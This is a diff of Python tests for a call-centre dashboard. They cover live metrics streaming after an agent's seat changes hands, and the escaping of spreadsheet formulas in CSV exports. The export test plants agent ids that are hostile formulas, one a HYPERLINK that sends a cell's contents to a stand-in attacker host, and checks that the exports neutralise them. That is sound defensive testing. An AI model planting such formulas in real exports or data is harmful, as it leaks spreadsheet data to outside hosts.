@@ -93,6 +93,78 @@ def test_the_live_views_hide_the_previous_agents_rows_after_a_seat_changes_hands
     assert len(next(b for b in full if b["box"] == "box-b1")["history"]) == stream.HISTORY
 
 
+def _live_updates(url: str, session: str, publish: Any, last_seq: int) -> list[int]:
+    """Open the floor's stream with ``session``, call ``publish`` once its snapshot came, and
+    return the seqs of the metrics updates received until ``last_seq``'s."""
+    import httpx
+
+    seqs: list[int] = []
+    with httpx.Client(base_url=url, timeout=10.0) as c, \
+            c.stream("GET", "/api/stream", headers={"cookie": f"__Host-miroir={session}"}) as s:
+        assert s.status_code == 200
+        name = None
+        for line in s.iter_lines():
+            if line.startswith("event: "):
+                name = line[7:]
+            elif line.startswith("data: ") and name == "snapshot":
+                publish()
+            elif line.startswith("data: ") and name == "update":
+                update = json.loads(line[6:])
+                if update["kind"] == "metrics":
+                    seqs.append(update["seq"])
+                    if update["seq"] == last_seq:
+                        return seqs
+    raise AssertionError(f"the stream ended before seq {last_seq}: {seqs}")
+
+
+def test_the_live_floor_does_not_push_the_previous_agents_rows_after_a_seat_changes_hands(
+        dashboard_server: Any, site: Any, peer: Any) -> None:
+    """box-b went from agent-old (team-old) to agent-new (team-new) two minutes ago, then sends
+    its backlog: a row measured while agent-old sat there, then one of agent-new's. Through the
+    real broker and ingest, the floor's stream of team-new's supervisor and agent-new's own
+    stream push agent-new's row only (they pushed agent-old's too), as the snapshot and
+    /api/boxes/box-b/metrics hide it."""
+    from dashboard import auth
+    from miroir import wire
+    from tests._fixtures_dashboard import USER_PASSWORD, http_login
+
+    settings = dashboard_server.settings
+    now = time.time()
+    db = store.open_db(settings.db_path)
+    try:
+        for agent, team, since in (("agent-old", "team-old", now - 600),
+                                   ("agent-new", "team-new", now - 120)):
+            schema.import_inventory(db, [{"box": "box-b", "agent": agent, "team": team}],
+                                    site=settings.site, now=since)
+        auth.create_user(db, "sup-new", USER_PASSWORD, "supervisor", teams=["team-new"])
+        auth.create_user(db, "new", USER_PASSWORD, "agent", agent="agent-new")
+    finally:
+        db.conn.close()
+    box = peer(site.box("box-b"), "box-b")
+    topic = wire.topic(settings.site, "box-b", "metrics")
+
+    def row(seq: int, ts: float) -> bytes:
+        return wire.encode("metrics", {
+            "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-b", "ts": ts,
+            "seq": seq, "t_start": float(seq), "window_s": 1.0, "near_speech_ratio": 0.5,
+            "far_speech_ratio": 0.2, "near_talking": True, "far_talking": False,
+            "talk_state": "agent"})
+
+    for k, user in enumerate(("sup-new", "new")):
+        import httpx
+
+        with httpx.Client(base_url=dashboard_server.url, timeout=10.0) as c:
+            session = http_login(c, user, USER_PASSWORD)
+        old, new = 2 * k + 1, 2 * k + 2
+
+        def publish(old: int = old, new: int = new) -> None:
+            box.publish(topic, row(old, now - 300 + old))  # agent-old's, from the box's outbox
+            box.publish(topic, row(new, now - 5 + new))
+
+        assert _live_updates(dashboard_server.url, session, publish, new) == [new], user
+    assert query(settings, "SELECT count(*) FROM metrics WHERE box = 'box-b'") == [(4,)]
+
+
 # ------------------------------------------------------------------------- timestamps
 def test_flag_and_call_timestamps_must_be_finite_and_between_2020_and_2100(org: Any) -> None:
     """NaN, Infinity, 1e300 or 1.0 as a flag's or a call's time is a 422 (the stored value broke
@@ -601,3 +673,53 @@ def test_export_filenames_follow_rfc_6266_whatever_the_ids(org: Any) -> None:
             assert unquote(star.removeprefix("filename*=UTF-8''")) == name
         assert c.get("/api/agents/agent-a1/export.csv").headers["content-disposition"] == (
             "attachment; filename=\"agent-a1.csv\"; filename*=UTF-8''agent-a1.csv")
+
+
+def test_a_csv_export_cannot_carry_a_spreadsheet_formula(org: Any) -> None:
+    """Agent ids are free text from the site's inventory: one that starts with =, +, - or @ went
+    into the CSV exports as is, a formula that a spreadsheet opening the file runs. Such a cell
+    now starts with an apostrophe (read as text); numbers are untouched."""
+    import csv
+    import io
+    from urllib.parse import quote
+
+    from miroir import wire
+
+    settings, data = org
+    hostile = ['=HYPERLINK("https:evil.example?"&A1,"x")', "+33 6 12 34 56 78", "-2+3",
+               "@SUM(1+1)"]
+    start = time.time() - 100
+    db = store.open_db(settings.db_path)
+    try:
+        for k, agent in enumerate(hostile):
+            schema.import_inventory(db, [{"box": "box-a2", "agent": agent, "team": "team-a"}],
+                                    site=settings.site, now=start + 10 * k)
+            store.insert_metrics(db, wire.decode("metrics", wire.encode("metrics", {
+                "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-a2",
+                "ts": start + 10 * k + 5, "seq": 1000 + k, "t_start": 1.0, "window_s": 1.0,
+                "near_speech_ratio": 0.5, "far_speech_ratio": 0.1, "near_talking": True,
+                "far_talking": False, "talk_state": "agent"})), time.time())
+    finally:
+        db.conn.close()
+    with client(settings) as c:
+        login_as(c, "sup-a", data)
+        paths = ["/api/teams/team-a/export.csv",
+                 *("/api/agents/" + quote(a, safe="") + "/export.csv" for a in hostile)]
+        for path in paths:
+            r = c.get(path)
+            assert r.status_code == 200, path
+            rows = list(csv.reader(io.StringIO(r.text)))
+            cells = [cell for row in rows[1:] for cell in row]
+            assert cells and not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")], path
+            assert not [x for x in cells if x.startswith("-") and not _number(x)], path
+        team = list(csv.DictReader(io.StringIO(c.get(paths[0]).text)))
+    assert {"'" + a for a in hostile} <= {r["agent"] for r in team}
+    assert {r["agent"] for r in team} >= {"agent-a1"}
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
